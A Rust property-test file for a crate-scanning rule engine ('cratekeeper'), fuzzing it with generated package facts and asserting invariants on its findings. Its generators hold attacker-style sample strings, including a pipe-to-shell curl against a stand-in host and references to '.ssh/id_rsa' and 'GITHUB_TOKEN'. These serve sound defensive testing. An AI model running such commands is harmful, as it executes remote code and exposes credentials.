//! All rules over inputs that no rule was written for: no panic, and every answer keeps the promises of the model.

use cratekeeper_model::facts::{
    AssemblySite, Capability, CharacterClass, CharacterContext, ConstantText, Decoding, Dependency,
    DependencySection, ExternalCall, FileEntry, FileKind, Flow, FlowFacts, FlowSource, FlowStep, Gate,
    GateKind, Include, IncludeKind, ManifestDifference, Operation, OperationKind, Phase, Quality,
    RefusedEntry, Remark, RemarkKind, Setting, SourceFile, SourceFileStatus, SpecialFile, SpecialRole,
    SuspiciousCharacter, Target, TargetKind, Topic, UnsafeCounters,
};
use cratekeeper_model::{
    Advisory, AdvisoryClass, ArchiveState, Case, Change, ChangeDirection, ChangeKind, Checksum,
    CrossCrateReach, DeclaredBy, DependencyHistory, Difference, Evidence, Facts, Finding, History,
    IndexEntry, IndexedManifest, Known, Level, NameMatch, NameMatches, Package, PackageId, PackageSource,
    Previous, PublishMethod, PublishedVersion, PublisherHistory, ReachedOperation, RegistryAction,
    RegistryEvent, RuleInput, Severity, SimilarCrate,
};
use cratekeeper_rules::{Evaluation, Family, TECHNIQUES, all, judge, judge_without, score};
use proptest::prelude::*;
use proptest::sample::select;
use semver::Version;

/// Text as publishers write it, and as attackers do.
fn text() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-z]{1,12}(/[a-z.]{1,12}){0,3}",
        any::<String>(),
        "[\u{202A}-\u{202E}\u{2066}-\u{2069}\u{200B}-\u{200F}\u{E0041}\u{1B}\n`a|<>;$]{0,40}",
        Just("tests/\u{202E}a".repeat(5_000)),
        Just(String::new()),
    ]
}

fn version() -> impl Strategy<Value = Version> {
    prop_oneof![
        (any::<u8>(), any::<u64>()).prop_map(|(major, minor)| Version::new(major.into(), minor, 0)),
        Just("1.2.3-rc.1+a.b".parse().expect("a version")),
    ]
}

fn checksum() -> impl Strategy<Value = Checksum> {
    (0..3_u8).prop_map(|byte| Checksum::of(&[byte]))
}

fn known<T: std::fmt::Debug + 'static>(value: impl Strategy<Value = T> + 'static) -> BoxedStrategy<Known<T>> {
    let known = (any::<bool>(), value, text()).prop_map(|(is_known, value, reason)| match is_known {
        true => Known::Known(value),
        false => Known::Unknown(reason),
    });
    known.boxed()
}

/// Boxed, because inputs of so many parts would not fit on a test's stack.
fn few<T: std::fmt::Debug + 'static>(value: impl Strategy<Value = T> + 'static) -> BoxedStrategy<Vec<T>> {
    prop::collection::vec(value, 0..15).boxed()
}

fn source() -> impl Strategy<Value = PackageSource> {
    prop_oneof![
        text().prop_map(PackageSource::Registry),
        text().prop_map(PackageSource::Git),
        text().prop_map(PackageSource::Path),
        Just(PackageSource::Unknown),
    ]
}

fn package() -> impl Strategy<Value = Package> {
    (source(), text(), version(), prop::option::of(checksum())).prop_map(
        |(source, name, version, checksum)| Package {
            id: PackageId::new(&source, &name, &version),
            name,
            version,
            checksum,
            source,
            kinds: Vec::new(),
            platforms: Vec::new(),
            features: None,
        },
    )
}

fn refusal() -> impl Strategy<Value = RefusedEntry> {
    let codes =
        ["symlink", "truncated", "expansion-ratio", "checksum-mismatch", "vendored-file-added", "new", ""];
    (select(codes.to_vec()), text(), prop::option::of(text()))
        .prop_map(|(code, message, entry)| RefusedEntry { code: code.to_owned(), message, entry })
}

fn archive() -> impl Strategy<Value = ArchiveState> {
    prop_oneof![
        4 => Just(ArchiveState::Read),
        1 => refusal().prop_map(ArchiveState::Refused),
        1 => (checksum(), checksum(), text()).prop_map(|(expected, actual, place)| {
            ArchiveState::ChecksumMismatch { expected, actual, place }
        }),
        1 => text().prop_map(ArchiveState::Unavailable),
    ]
}

fn dependency() -> impl Strategy<Value = Dependency> {
    let section = select(vec![DependencySection::Normal, DependencySection::Build, DependencySection::Dev]);
    let texts = (text(), prop::option::of(text()), prop::option::of(text()), prop::option::of(text()));
    (texts, section, any::<bool>(), few(text())).prop_map(
        |((name, package, requirement, target), section, optional, features)| Dependency {
            name,
            package,
            requirement,
            section,
            target,
            optional,
            default_features: optional,
            features,
            registry: None,
            git: None,
            path: None,
            workspace: false,
        },
    )
}

fn index() -> impl Strategy<Value = IndexEntry> {
    let features = few((text(), few(text()))).prop_map(|it| it.into_iter().collect());
    let declared = (text(), few(dependency()), features, prop::option::of(text())).prop_map(
        |(name, dependencies, features, links)| {
            let rust_version = links.clone();
            let by = DeclaredBy::default();
            Box::new(IndexedManifest { by, name, dependencies, features, links, rust_version })
        },
    );
    (any::<bool>(), checksum(), prop::option::of(version()), prop::option::of(declared)).prop_map(
        |(yanked, checksum, newest_compatible, declared)| IndexEntry {
            yanked,
            checksum,
            newest_compatible,
            age: u64::MAX,
            declared,
        },
    )
}

fn unknown<T>() -> Known<T> {
    Known::Unknown("not looked for".to_owned())
}

fn advisory() -> impl Strategy<Value = Advisory> {
    use AdvisoryClass::{Malicious, Notice, Unmaintained, Unsound, Vulnerability};
    let class = select(vec![Malicious, Notice, Unmaintained, Unsound, Vulnerability]);
    let severity = prop::option::of(select(&Severity::ALL[..]));
    let patched = few(prop_oneof![text(), Just(">=1.0.0, <2.0.0".to_owned())]);
    (text(), text(), class, severity, patched, few(text()), prop::option::of(text())).prop_map(
        |(id, title, class, severity, patched, os, url)| Advisory {
            id,
            aliases: Vec::new(),
            date: String::new(),
            title,
            class,
            severity,
            cvss: None,
            url,
            patched,
            functions: Vec::new(),
            arch: os.clone(),
            os,
        },
    )
}

fn file() -> impl Strategy<Value = FileEntry> {
    use FileKind::{Bytecode, Elf, Empty, Script, StaticLibrary, Text, Wasm};
    let kind = select(vec![Bytecode, Elf, Empty, Script, StaticLibrary, Text, Wasm]);
    (text(), kind, any::<u64>()).prop_map(|(path, kind, size)| FileEntry {
        path,
        size,
        checksum: Checksum::of(b""),
        kind,
        entropy: f32::NAN,
        executable: true,
        hidden: false,
        lines: u32::MAX,
        longest_line: u32::MAX,
        longest_line_number: 0,
    })
}

fn character() -> impl Strategy<Value = SuspiciousCharacter> {
    use CharacterClass::{BidiControl, ConfusableIdentifier, Invisible, Tag};
    use CharacterContext::{Code, Comment, Literal, Text};
    let class = select(vec![BidiControl, BidiControl, BidiControl, ConfusableIdentifier, Invisible, Tag]);
    let context = select(vec![Code, Comment, Literal, Text]);
    (text(), any::<u32>(), any::<u32>(), class, context, any::<bool>(), text()).prop_map(
        |(file, line, code_point, class, context, closed, excerpt)| SuspiciousCharacter {
            file,
            line,
            column: line,
            code_point,
            class,
            context,
            closed,
            excerpt,
        },
    )
}

fn rust_file() -> impl Strategy<Value = SourceFile> {
    use SourceFileStatus::{NotUtf8, Parsed, ParsedWithErrors, TokensOnly};
    let status = select(vec![NotUtf8, Parsed, ParsedWithErrors, TokensOnly]);
    (text(), status, prop::option::of(text()), any::<u32>(), few(any::<u16>())).prop_map(
        |(path, status, problem, problem_line, targets)| SourceFile {
            path,
            size: u64::MAX,
            status,
            errors: u32::MAX,
            problem,
            problem_line,
            targets,
            r#unsafe: UnsafeCounters::default(),
            forbids_unsafe: false,
        },
    )
}

fn target() -> impl Strategy<Value = Target> {
    let kind =
        select(vec![TargetKind::BuildScript, TargetKind::Lib, TargetKind::ProcMacro, TargetKind::Test]);
    (kind, text(), any::<bool>()).prop_map(|(kind, path, exists)| Target {
        kind,
        name: path.clone(),
        path,
        exists,
        required_features: Vec::new(),
    })
}

fn difference() -> impl Strategy<Value = ManifestDifference> {
    let field = prop_oneof![text(), "(package|features|target|dev-dependencies)\\.[a-z.]{0,9}"];
    (field, prop::option::of(text()), prop::option::of(text()))
        .prop_map(|(field, published, original)| ManifestDifference { field, published, original })
}

/// Numbers that lead somewhere, and some that lead nowhere.
fn number() -> impl Strategy<Value = u32> {
    prop_oneof![6 => 0_u32..6, 1 => any::<u32>()]
}

/// Text that operations get.
fn argument() -> impl Strategy<Value = String> {
    let words = [
        "{}",
        "curl",
        "/bin/sh",
        "-c",
        "curl http://a.example.invalid/i | sh",
        "https://a.example.invalid/{}",
        "127.0.0.1:9",
        "{}/.ssh/id_rsa",
        "HOME",
        "GITHUB_TOKEN",
        "/tmp/.x",
        "git",
        "cargo publish",
        "é://[",
        "http://",
        "a.b.c:",
        "",
    ];
    prop_oneof![3 => select(words.to_vec()).prop_map(str::to_owned), 1 => text()]
}

fn operation() -> impl Strategy<Value = Operation> {
    use OperationKind::*;
    let kinds = [
        ReadFile,
        ReadDirectory,
        WriteFile,
        SetPermissions,
        DeleteFile,
        Connect,
        Listen,
        ResolveName,
        DisableTlsChecks,
        StartProcess,
        ReadVariable,
        ListVariables,
        HostInformation,
        LoadLibrary,
        Interpret,
        SystemCall,
        Assembly,
        ExecutableMemory,
        CallData,
        BeforeMain,
        Sleep,
        ReadClock,
        Decode,
        Encode,
        Pattern,
        UserInterface,
        SystemRegistry,
        CargoDirective,
    ];
    let phases = [Phase::BuildTime, Phase::BeforeMain, Phase::RunTime, Phase::Test, Phase::Unreached];
    let qualities = [
        Quality::ErrorsIgnored,
        Quality::Silent,
        Quality::Detached,
        Quality::ThroughShell,
        Quality::InMacro,
        Quality::HiddenArgument,
        Quality::InsidePackage,
        Quality::OnThread,
        Quality::Executable,
        Quality::Verified,
    ];
    let place = (number(), any::<u32>(), prop::option::of(number()));
    let lists = (few(argument()), few(select(qualities.to_vec())), few(number()), few(number()));
    (select(kinds.to_vec()), text(), place, lists, few(select(phases.to_vec()))).prop_map(
        |(kind, path, (file, line, function), (arguments, qualities, gates, chain), phases)| Operation {
            kind,
            path,
            file,
            line,
            function,
            arguments,
            qualities,
            gates,
            phases,
            chain,
        },
    )
}

fn decodings() -> impl Strategy<Value = Vec<Decoding>> {
    use Decoding::*;
    few(select(vec![Joined, Reversed, Base64, Hex, Xor, Rotated, Numbers, Replaced, Evaluated]))
}

fn constant_text() -> impl Strategy<Value = ConstantText> {
    use Topic::*;
    let topics = [
        Url,
        IpAddress,
        Host,
        SecretFile,
        WalletFile,
        SecretVariable,
        BuildServiceVariable,
        StartupPlace,
        Downloader,
        Shell,
        AnalysisTool,
        DropService,
        SecretPattern,
        PublishCommand,
        UserSource,
        SharedPlace,
        AssistantInstruction,
        HiddenPlace,
        HighEntropy,
    ];
    let place = (number(), any::<u32>(), prop::option::of(number()), prop::option::of(number()));
    (argument(), decodings(), few(select(topics.to_vec())), place).prop_map(
        |(value, decodings, topics, (file, line, function, operation))| ConstantText {
            value,
            decodings,
            topics,
            file,
            line,
            function,
            operation,
        },
    )
}

fn gate() -> impl Strategy<Value = Gate> {
    use GateKind::*;
    let kinds = [
        BuildService,
        Variable,
        Time,
        Host,
        AnalysisTool,
        OptionalFeature,
        DefaultFeature,
        Target,
        Test,
        Profile,
        Chance,
        FileExists,
    ];
    (select(kinds.to_vec()), text(), number(), any::<u32>(), prop::option::of(number()))
        .prop_map(|(kind, text, file, line, function)| Gate { kind, text, file, line, function })
}

fn flow() -> impl Strategy<Value = Flow> {
    use FlowSource::*;
    let sources = [
        SecretVariable,
        Variable,
        AllVariables,
        SecretFile,
        UserSource,
        File,
        HostInformation,
        Network,
        ProcessOutput,
        HiddenConstant,
        EmbeddedFile,
    ];
    let step = (number(), any::<u32>(), prop::option::of(number()))
        .prop_map(|(file, line, function)| FlowStep { file, line, function });
    (select(sources.to_vec()), prop::option::of(number()), number(), decodings(), few(step)).prop_map(
        |(source, from, into, transformations, steps)| Flow { source, from, into, transformations, steps },
    )
}

fn behaviour() -> impl Strategy<Value = FlowFacts> {
    let call = (text(), number(), any::<u32>(), prop::option::of(number())).prop_map(
        |(path, file, line, function)| ExternalCall {
            path,
            file,
            line,
            function,
            phases: vec![Phase::BuildTime],
        },
    );
    (few(operation()), few(constant_text()), few(gate()), few(flow()), few(call), few(text())).prop_map(
        |(operations, texts, gates, flows, external_calls, problems)| FlowFacts {
            operations,
            texts,
            gates,
            flows,
            external_calls,
            problems,
        },
    )
}

fn assembly() -> impl Strategy<Value = AssemblySite> {
    (number(), any::<u32>(), text()).prop_map(|(file, line, text)| AssemblySite {
        file,
        line,
        r#macro: "asm".to_owned(),
        function: None,
        text: text + " syscall",
        mentions: vec!["syscall".to_owned()],
    })
}

fn include() -> impl Strategy<Value = Include> {
    let kind = select(vec![IncludeKind::Env, IncludeKind::IncludeBytes, IncludeKind::OptionEnv]);
    (number(), any::<u32>(), kind, argument()).prop_map(|(file, line, kind, argument)| Include {
        file,
        line,
        kind,
        argument,
        literal: true,
    })
}

/// A file that a tool obeys.
fn special() -> impl Strategy<Value = SpecialFile> {
    use SpecialRole::*;
    let roles = [
        CargoConfiguration,
        Toolchain,
        Lockfile,
        Editor,
        Shell,
        GitHook,
        AssistantInstructions,
        AssistantConfiguration,
        Script,
    ];
    let keys = ["build.rustc-wrapper", "source.crates-io.replace-with", "tasks.runOptions.runOn", "", "x"];
    let key = prop_oneof![3 => select(keys.to_vec()).prop_map(str::to_owned), 1 => text()];
    let paths = [".cargo/config.toml", "rust-toolchain", "setup.sh", ".envrc", "AGENTS.md"];
    let path = prop_oneof![3 => select(paths.to_vec()).prop_map(str::to_owned), 1 => text()];
    let setting = (key, argument(), any::<u32>());
    let setting = setting.prop_map(|(key, value, line)| Setting { key, value, line });
    (path, select(roles.to_vec()), few(setting), prop::option::of(text()))
        .prop_map(|(path, role, settings, problem)| SpecialFile { path, role, settings, problem })
}

fn remark() -> impl Strategy<Value = Remark> {
    use RemarkKind::*;
    let kinds = [
        CodeBehindSpace,
        CodeBehindLines,
        CodeBehindComment,
        CodeBeyondEdge,
        ActiveMarkup,
        AssistantInstruction,
    ];
    (text(), any::<u32>(), select(kinds.to_vec()), argument())
        .prop_map(|(file, line, kind, excerpt)| Remark { file, line, column: line, kind, excerpt })
}

fn facts() -> impl Strategy<Value = Facts> {
    (
        (few(file()), few(refusal()), few(character()), any::<u64>(), any::<u64>()),
        (few(special()), few(remark()), any::<u64>()),
        (few(rust_file()), few(target()), few(difference())),
        few(dependency()),
        (behaviour(), few(assembly()), few(include())),
    )
        .prop_map(|(files, obeyed, source, declared, behaviour)| {
            let mut facts = Facts::default();
            (facts.files.special, facts.files.remarks, facts.files.remarks_total) = obeyed;
            (facts.files.entries, facts.files.refused, facts.files.characters, ..) = files;
            (.., facts.files.characters_total, facts.files.compressed_size) = (files.3, files.4);
            (facts.source.rust_files, facts.manifest.targets, facts.manifest.differences) = source;
            facts.manifest.dependencies = declared;
            (facts.flow, facts.source.assembly, facts.source.includes) = behaviour;
            facts
        })
        .boxed()
}

fn names() -> impl Strategy<Value = NameMatches> {
    let check = select(vec!["separators", "reserved-name", "new"]);
    let one = (text(), check, any::<u8>(), text()).prop_map(|(target, check, score, explanation)| {
        NameMatch { target, check: check.to_owned(), score, explanation }
    });
    (any::<bool>(), select(&Level::ALL[..]), few(one)).prop_map(|(in_corpus, level, matches)| NameMatches {
        in_corpus,
        level,
        matches,
    })
}

fn place() -> impl Strategy<Value = Evidence> {
    (text(), any::<u32>(), prop::option::of(text())).prop_map(|(file, line, excerpt)| Evidence {
        file,
        line: Some(line),
        excerpt,
    })
}

fn change() -> impl Strategy<Value = Change> {
    use ChangeKind::*;
    let kinds = [
        BuildScript,
        ProcMacro,
        Capability,
        Dependency,
        BuildDependency,
        Binary,
        HiddenFile,
        Unsafe,
        Ffi,
        Repository,
        Authors,
        Manifest,
        Feature,
        CodeVolume,
        ConstantText,
    ];
    let direction = select(vec![ChangeDirection::Added, ChangeDirection::Removed, ChangeDirection::Changed]);
    let capability = select(&self::Capability::ALL[..]);
    let phase = select(vec![Phase::BuildTime, Phase::RunTime, Phase::Test]);
    let texts = (text(), prop::option::of(text()), prop::option::of(text()));
    (select(kinds.to_vec()), direction, texts, prop::option::of((capability, phase)), few(place())).prop_map(
        |(kind, direction, (subject, before, after), capability, evidence)| Change {
            kind,
            direction,
            subject,
            before,
            after,
            capability,
            evidence,
        },
    )
}

fn previous() -> impl Strategy<Value = Previous> {
    (version(), few(change()), any::<(u64, u64)>(), any::<(u32, u32, u32)>()).prop_map(
        |(version, changes, rust_lines, files)| Previous {
            version,
            difference: Difference { changes, rust_lines, files, left_out: rust_lines.0 },
        },
    )
}

/// Moments around each other, and the ends of time.
fn moment() -> impl Strategy<Value = i64> {
    prop_oneof![4 => 0_i64..100_000_000, 1 => any::<i64>()]
}

fn published() -> impl Strategy<Value = PublishedVersion> {
    let method = select(vec![PublishMethod::Token, PublishMethod::TrustedPublishing]);
    let known = (known(moment()), known(text()), known(method), known(few(text())));
    (version(), known, any::<bool>()).prop_map(
        |(version, (published, publisher, method, dependencies), yanked)| PublishedVersion {
            version,
            published,
            publisher,
            method,
            yanked,
            dependencies,
        },
    )
}

fn event() -> impl Strategy<Value = RegistryEvent> {
    let action = prop_oneof![
        version().prop_map(RegistryAction::Yank),
        version().prop_map(RegistryAction::Unyank),
        text().prop_map(RegistryAction::OwnerAdded),
        text().prop_map(RegistryAction::OwnerRemoved),
    ];
    (moment(), known(text()), action).prop_map(|(at, by, action)| RegistryEvent { at, by, action })
}

fn dependency_history() -> impl Strategy<Value = DependencyHistory> {
    let known =
        (known(moment()), known(moment()), known(few(text())), known(any::<u64>()), known(any::<u8>()));
    (text(), few(text()), known, prop::option::of(any::<bool>())).prop_map(
        |(name, through, known, in_previous)| {
            let (first_published, version_published, owners, downloads, score) = known;
            DependencyHistory {
                name,
                through,
                first_published,
                version_published,
                owners,
                downloads,
                in_previous,
                score,
            }
        },
    )
}

fn publisher_history() -> impl Strategy<Value = PublisherHistory> {
    let crates = few((text(), moment()));
    (text(), prop::option::of(moment()), crates, few((text(), text())), few(text())).prop_map(
        |(login, first_seen, crates, near_names, look_alikes)| PublisherHistory {
            login,
            first_seen,
            crates,
            near_names,
            look_alikes,
        },
    )
}

fn history() -> impl Strategy<Value = History> {
    let known = (
        known(few(event())),
        known(few(text())),
        known(any::<u64>()),
        known(prop::option::of(text())),
        known(publisher_history()),
    );
    (moment(), few(published()), known, few(dependency_history())).prop_map(
        |(at, versions, (events, owners, downloads, earlier_owner, publisher), dependencies)| History {
            at,
            versions,
            events,
            owners,
            downloads,
            earlier_owner,
            dependencies,
            publisher,
        },
    )
}

fn similar() -> impl Strategy<Value = SimilarCrate> {
    let shares = any::<(Option<u8>, Option<u8>, Option<u8>)>();
    let same = any::<(bool, Option<bool>, Option<bool>)>();
    (text(), text(), shares, same, few(place())).prop_map(|(name, version, shares, same, differing)| {
        SimilarCrate {
            name,
            version,
            source: shares.0,
            readme: shares.1,
            description: shares.2,
            same_repository: same.0,
            same_owner: same.1,
            other_is_older: same.2,
            differing,
            structure: shares.0,
            same_author: same.1,
            shared_functions: (0, 9),
        }
    })
}

/// What calls into other crates reach.
fn reached() -> impl Strategy<Value = CrossCrateReach> {
    let seen = (text(), operation(), few((argument(), decodings())), few((number(), decodings())));
    let seen = seen.prop_map(|(file, operation, texts, values)| ReachedOperation {
        path: operation.path,
        file,
        line: operation.line,
        arguments: operation.arguments,
        qualities: operation.qualities,
        texts: texts.into_iter().map(|(value, decodings)| (value, decodings, vec![Topic::Url])).collect(),
        receives: values
            .into_iter()
            .map(|(from, decodings)| (FlowSource::Network, Some(from), decodings))
            .collect(),
    });
    let packages = few((source(), text(), version()).prop_map(|(a, b, c)| PackageId::new(&a, &b, &c)));
    (number(), packages, operation(), few(text()), prop::option::of(seen)).prop_map(
        |(call, packages, operation, way, seen)| CrossCrateReach {
            call,
            packages,
            operation: operation.kind,
            function: way.last().cloned().unwrap_or_default(),
            way,
            seen: seen.map(Box::new),
        },
    )
}

fn input() -> impl Strategy<Value = RuleInput> {
    let now = (known(facts()), known(index()), known(few(advisory())), known(names()));
    let past = (known(previous()), known(history()), known(few(similar())), known(few(reached())));
    (package(), archive(), now, past).prop_map(
        |(package, archive, (facts, index, advisories, names), (previous, history, similar, reach))| {
            RuleInput { package, archive, facts, index, advisories, names, previous, history, similar, reach }
        },
    )
}

/// Characters that may not reach a terminal; own list, so that the escaping is not tested by itself.
fn is_hidden(character: char) -> bool {
    character.is_control()
        || matches!(character, '\u{200B}'..='\u{200F}' | '\u{2028}'..='\u{202E}' | '\u{2060}'..='\u{206F}'
            | '\u{E0000}'..='\u{E007F}' | '\u{FEFF}' | '\u{AD}' | '\u{61C}')
}

fn texts(finding: &Finding) -> impl Iterator<Item = &str> {
    let evidence = finding.evidence.iter().flat_map(|it| [Some(it.file.as_str()), it.excerpt.as_deref()]);
    evidence.flatten().chain([finding.message.as_str()]).chain(finding.help.as_deref())
}

fn check(case: &Case) {
    for finding in &case.findings {
        let rule = cratekeeper_rules::find(&finding.rule).expect("a finding names its rule");
        assert!(rule.severities.contains(&finding.severity), "{finding:?}");
        assert!(finding.evidence.len() <= 10, "{finding:?}");
        assert!(finding.help.as_deref().is_some_and(|help| !help.is_empty()), "{finding:?}");
        for text in texts(finding) {
            assert!(!text.contains(is_hidden), "{text:?}");
            assert!(text.chars().count() <= 2_000, "{} characters: {text}", text.chars().count());
        }
    }
    assert!(case.not_evaluated.iter().all(|it| !it.reason.contains(is_hidden)));
    assert!(case.findings.is_sorted_by_key(|it| std::cmp::Reverse((it.severity, it.confidence))));
    assert!(case.techniques.is_sorted());
    assert!(case.techniques.iter().all(|number| TECHNIQUES.iter().any(|it| it.number == *number)));
    assert_eq!(case.score, score(&case.findings));
    let sum: u32 = case.contributions.iter().map(|it| u32::from(it.points)).sum();
    assert_eq!(sum, u32::from(case.score), "contributions add up to the score: {:?}", case.contributions);
    assert!(case.contributions.is_sorted_by_key(|it| std::cmp::Reverse(it.points)));
    assert_eq!(case.harmless_if.is_some(), case.level >= Level::Review);
    assert!(case.chain.len() <= 20 && case.chain.is_sorted_by_key(|step| step.kind));
    for step in &case.chain {
        assert!(!step.text.contains(is_hidden), "{:?}", step.text);
        assert!(!step.text.contains("http://") && !step.text.contains("https://"), "{:?}", step.text);
    }
    assert_eq!(case.level == Level::None, case.findings.is_empty());
    let is_grave_chain = |finding: &Finding| {
        let rule = cratekeeper_rules::find(&finding.rule).expect("a finding names its rule");
        rule.family == Family::Correlation && finding.severity > Severity::Medium
    };
    assert!(case.level >= Level::Alert || !case.findings.iter().any(is_grave_chain), "{:?}", case.findings);
}

proptest! {
    // Inputs have many parts: a hundred take as long as a thousand of another test.
    #![proptest_config(ProptestConfig::with_cases(100))]

    #[test]
    fn every_answer_keeps_its_promises(input in input()) {
        check(&judge(&input));
    }

    #[test]
    fn without_a_family_its_findings_are_missing(input in input(), family in select(&Family::ALL[..])) {
        let case = judge_without(&[family], &input);
        check(&case);
        let of = |finding: &Finding| cratekeeper_rules::find(&finding.rule).expect("a finding names its rule").family;
        prop_assert!(case.findings.iter().all(|finding| of(finding) != family));
    }

    #[test]
    fn the_same_input_gives_the_same_case(input in input()) {
        prop_assert_eq!(judge(&input), judge(&input));
    }
}

fn empty() -> RuleInput {
    let source = PackageSource::Registry("registry+https://registry.example.invalid".to_owned());
    let version = Version::new(0, 0, 0);
    RuleInput {
        package: Package {
            id: PackageId::new(&source, "a", &version),
            name: "a".to_owned(),
            version,
            checksum: None,
            source,
            kinds: Vec::new(),
            platforms: Vec::new(),
            features: None,
        },
        archive: ArchiveState::Read,
        facts: Known::Known(Facts::default()),
        index: Known::Unknown("offline".to_owned()),
        advisories: Known::Known(Vec::new()),
        names: Known::Known(NameMatches::default()),
        previous: Known::Known(Previous {
            version: Version::new(0, 0, 0),
            difference: Difference::default(),
        }),
        history: unknown(),
        similar: Known::Known(Vec::new()),
        reach: Known::Known(Vec::new()),
    }
}

#[test]
fn when_nothing_is_known_no_rule_is_silent() {
    let input = RuleInput {
        archive: ArchiveState::Unavailable("offline".to_owned()),
        facts: Known::Unknown("offline".to_owned()),
        advisories: Known::Unknown("no database".to_owned()),
        names: Known::Unknown("it is too long".to_owned()),
        previous: unknown(),
        similar: unknown(),
        reach: unknown(),
        ..empty()
    };
    for rule in all() {
        let evaluation = (rule.evaluate)(&input);
        assert!(matches!(evaluation, Evaluation::NotEvaluated(_)), "{}: {evaluation:?}", rule.id);
    }
    let case = judge(&input);
    assert_eq!((case.score, case.level), (0, Level::None));
    assert_eq!(case.not_evaluated.len(), all().len());
}

#[test]
fn an_empty_package_has_no_findings() {
    let case = judge(&empty());
    assert!(case.findings.is_empty());
    let of_one_version = |id: &str| {
        let family = cratekeeper_rules::find(id).map(|rule| rule.family);
        !matches!(family, Some(Family::History | Family::Difference | Family::Similarity))
    };
    let missing = case.not_evaluated.iter().map(|it| it.rule.as_str());
    let missing: Vec<&str> = missing.filter(|id| of_one_version(id)).collect();
    assert_eq!(missing, ["checksum-mismatch", "index-differs-from-manifest"]);
}
